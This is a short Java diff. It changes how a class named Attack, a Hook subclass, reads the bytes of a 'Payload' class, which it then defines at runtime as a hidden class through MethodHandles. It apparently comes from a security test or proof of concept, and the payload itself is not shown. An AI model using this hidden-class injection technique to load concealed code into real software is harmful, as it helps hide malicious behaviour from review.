@@ -6,7 +6,7 @@ import java.lang.invoke.MethodHandles;
 final class Attack extends Hook {
   @Override
   void run() throws Throwable {
-    byte[] bytes = OwnJar.read("mlp/Payload.class");
+    byte[] bytes = OwnClasses.read("mlp/Payload");
     MethodHandles.lookup().defineHiddenClass(bytes, true).lookupClass();
   }
 }
